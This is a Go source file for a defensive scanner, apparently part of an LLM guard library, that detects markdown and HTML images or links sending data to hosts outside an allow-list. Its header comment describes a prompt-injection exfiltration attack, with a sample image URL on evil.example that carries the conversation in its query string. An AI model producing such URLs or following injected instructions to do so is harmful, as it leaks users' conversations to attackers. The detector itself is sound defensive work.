package pattern

import (
	"fmt"
	"net/url"
	"strings"

	"github.com/bulwarkhq/bulwark/guard"
)

// ExfilName is the name of the exfiltration scanner.
const ExfilName = "exfiltration"

// Exfil finds the markdown and HTML that make a chat client send data out
// when it renders model output: images (fetched without a click) and links
// whose URL carries data. An injected instruction asks the model to write
// ![](https://evil.example/p.png?q=<the conversation>); the client fetches
// it and the attacker's server logs the query.
type Exfil struct {
	exact    map[string]bool
	suffixes []string // ".example.com" for "*.example.com"
}

// NewExfil returns the exfiltration scanner. Images and data-carrying
// links to allowed hosts pass; an entry is a host name ("cdn.example.com")
// or "*.example.com" for a domain and its subdomains.
func NewExfil(allowedHosts []string) *Exfil {
	e := &Exfil{exact: make(map[string]bool)}
	for _, h := range allowedHosts {
		h = strings.ToLower(strings.TrimSpace(h))
		if rest, ok := strings.CutPrefix(h, "*."); ok {
			e.suffixes = append(e.suffixes, "."+rest)
			e.exact[rest] = true
		} else if h != "" {
			e.exact[h] = true
		}
	}
	return e
}

// Name implements guard.Scanner.
func (*Exfil) Name() string { return ExfilName }

func (e *Exfil) allowed(host string) bool {
	if e.exact[host] {
		return true
	}
	for _, s := range e.suffixes {
		if strings.HasSuffix(host, s) {
			return true
		}
	}
	return false
}

// Scan implements guard.Scanner. Anchors are "](" for markdown and "<img"
// for HTML; everything else is skipped with IndexByte-speed searches.
func (e *Exfil) Scan(seg guard.Segment) []guard.Finding {
	t := seg.Text
	var fs []guard.Finding
	floor := 0 // no '[' search goes back past the previous link
	for i := 0; i < len(t); i++ {
		k := strings.IndexByte(t[i:], ']')
		if k < 0 {
			break
		}
		i += k
		if i+1 < len(t) && t[i+1] == '(' {
			f, end, ok := e.markdown(t, i, floor)
			if ok {
				fs = append(fs, f)
			}
			// The URL is skipped whether or not it was reported: anchors
			// inside it are not links, and rescanning it from each would
			// make "](](](" quadratic.
			i = max(i+1, end-1)
			floor = i + 1
		}
	}
	for i := 0; i < len(t); i++ {
		k := strings.IndexByte(t[i:], '<')
		if k < 0 {
			break
		}
		i += k
		if hasPrefixFold(t[i:], "<img") && i+4 < len(t) && !isAlnum(t[i+4]) {
			f, end, ok := e.htmlImage(t, i)
			if ok {
				fs = append(fs, f)
			}
			i = max(i, end-1)
		}
	}
	return fs
}

// markdown handles [text](url "title") and ![alt](url) with s[i] the ']'.
// The opening bracket is looked for at most 512 bytes back and not across
// a blank line; a missing closing parenthesis (output cut off mid-stream)
// still counts, since a streaming client may render it.
func (e *Exfil) markdown(s string, i, floor int) (guard.Finding, int, bool) {
	open := -1
	for j := i - 1; j >= floor && i-j <= 512; j-- {
		if s[j] == '[' {
			open = j
			break
		}
		if s[j] == '\n' && j > 0 && s[j-1] == '\n' {
			break
		}
	}
	image := open > 0 && s[open-1] == '!'
	start := open
	if image {
		start--
	}
	if open < 0 {
		start = i
	}
	j := i + 2
	for j < len(s) && (s[j] == ' ' || s[j] == '<') {
		j++
	}
	us := j
	depth := 0
	limit := min(len(s), us+4096)
	for j < limit {
		c := s[j]
		if c == '(' {
			depth++
		} else if c == ')' {
			if depth == 0 {
				break
			}
			depth--
		} else if c == ' ' || c == '\n' || c == '\t' || c == '>' || c == '"' {
			break
		}
		j++
	}
	raw := s[us:j]
	end := j
	if k := strings.IndexByte(s[j:min(len(s), j+512)], ')'); k >= 0 && !strings.Contains(s[j:j+k], "\n\n") {
		end = j + k + 1
	}
	kind := "markdown_link"
	if image {
		kind = "markdown_image"
	}
	f, ok := e.judge(kind, image, raw, start, end)
	return f, j, ok
}

// htmlImage handles <img ... src="url" ...> with s[i] the '<'.
func (e *Exfil) htmlImage(s string, i int) (guard.Finding, int, bool) {
	limit := min(len(s), i+2048)
	end := limit
	if k := strings.IndexByte(s[i:limit], '>'); k >= 0 {
		end = i + k + 1
	}
	tag := s[i:end]
	for k := 4; k+4 < len(tag); k++ {
		if !hasPrefixFold(tag[k:], "src") || isAlnum(tag[k-1]) && tag[k-1] != ' ' {
			continue
		}
		j := k + 3
		for j < len(tag) && tag[j] == ' ' {
			j++
		}
		if j >= len(tag) || tag[j] != '=' {
			continue
		}
		j++
		for j < len(tag) && tag[j] == ' ' {
			j++
		}
		var q byte = ' '
		if j < len(tag) && (tag[j] == '"' || tag[j] == '\'') {
			q = tag[j]
			j++
		}
		us := j
		for j < len(tag) && tag[j] != q && tag[j] != '>' && !(q == ' ' && (tag[j] == '\n' || tag[j] == '\t')) {
			j++
		}
		f, ok := e.judge("html_image", true, tag[us:j], i, end)
		return f, end, ok
	}
	return guard.Finding{}, end, false
}

// judge decides whether a URL in an image or link sends data to a host
// that is not allowed.
func (e *Exfil) judge(kind string, image bool, raw string, start, end int) (guard.Finding, bool) {
	raw = strings.TrimSpace(raw)
	if strings.HasPrefix(raw, "//") {
		raw = "https:" + raw
	}
	if !hasPrefixFold(raw, "http://") && !hasPrefixFold(raw, "https://") {
		return guard.Finding{}, false // relative, data: and mailto: URLs fetch nothing elsewhere
	}
	u, err := url.Parse(raw)
	if err != nil {
		return guard.Finding{}, false
	}
	host := strings.ToLower(u.Hostname())
	if host == "" || e.allowed(host) {
		return guard.Finding{}, false
	}
	where := carriesData(u)
	var score float64
	var detail string
	switch {
	case where != "" && image:
		score, detail = 0.95, "image from a host not on the allow-list carries data in its "+where
	case where != "":
		score, detail = 0.8, "link to a host not on the allow-list carries data in its "+where
	case image:
		score, detail = 0.6, "image loads from a host not on the allow-list"
	default:
		return guard.Finding{}, false
	}
	f := guard.Finding{
		Scanner: ExfilName, Category: guard.Exfiltration, Kind: kind, Score: score,
		Start: start, End: end, Match: host, Detail: detail,
	}
	return f, true
}

// carriesData names the part of u that carries data, or "". A value
// carries data when it is long (32 bytes or more), holds spaces once
// decoded (prose), or looks encoded or random (base64 or hex of 16 bytes
// or more, or high entropy). Short ids (?v=3, /posts/42, ?lang=en) do not.
func carriesData(u *url.URL) string {
	for _, label := range strings.Split(u.Hostname(), ".") {
		if len(label) >= 24 && dataValue(label) {
			return "host name"
		}
	}
	for _, kv := range strings.Split(u.RawQuery, "&") {
		k, v, _ := strings.Cut(kv, "=")
		if dv, err := url.QueryUnescape(v); err == nil {
			v = dv
		}
		if dataValue(v) || len(v) == 0 && len(k) >= 24 && dataValue(k) {
			return fmt.Sprintf("query parameter %q", truncate(k, 32))
		}
	}
	for _, seg := range strings.Split(u.EscapedPath(), "/") {
		if d, err := url.PathUnescape(seg); err == nil {
			seg = d
		}
		if dataValue(seg) && !fileName(seg) {
			return "path"
		}
	}
	return ""
}

func dataValue(v string) bool {
	switch {
	case len(v) >= 32:
		return true
	case len(v) >= 12 && strings.ContainsAny(v, " \n"):
		return true
	case len(v) >= 16 && run(v, 0, setAnyB64|cDot, len(v)) == len(v):
		up, lo, dg := classes(v)
		return b2i(up)+b2i(lo)+b2i(dg) >= 2 && entropy(v) >= 3.3
	}
	return false
}

// fileName reports whether a path segment reads as a file name made of
// words ("quarterly-report-2024-final-version.png"), not data.
func fileName(seg string) bool {
	dot := strings.LastIndexByte(seg, '.')
	if dot < 0 || len(seg)-dot > 6 {
		return false
	}
	base := seg[:dot]
	return len(base) < 64 && switchRatio(base+"x") < 0.25 && !strings.ContainsAny(base, " ")
}
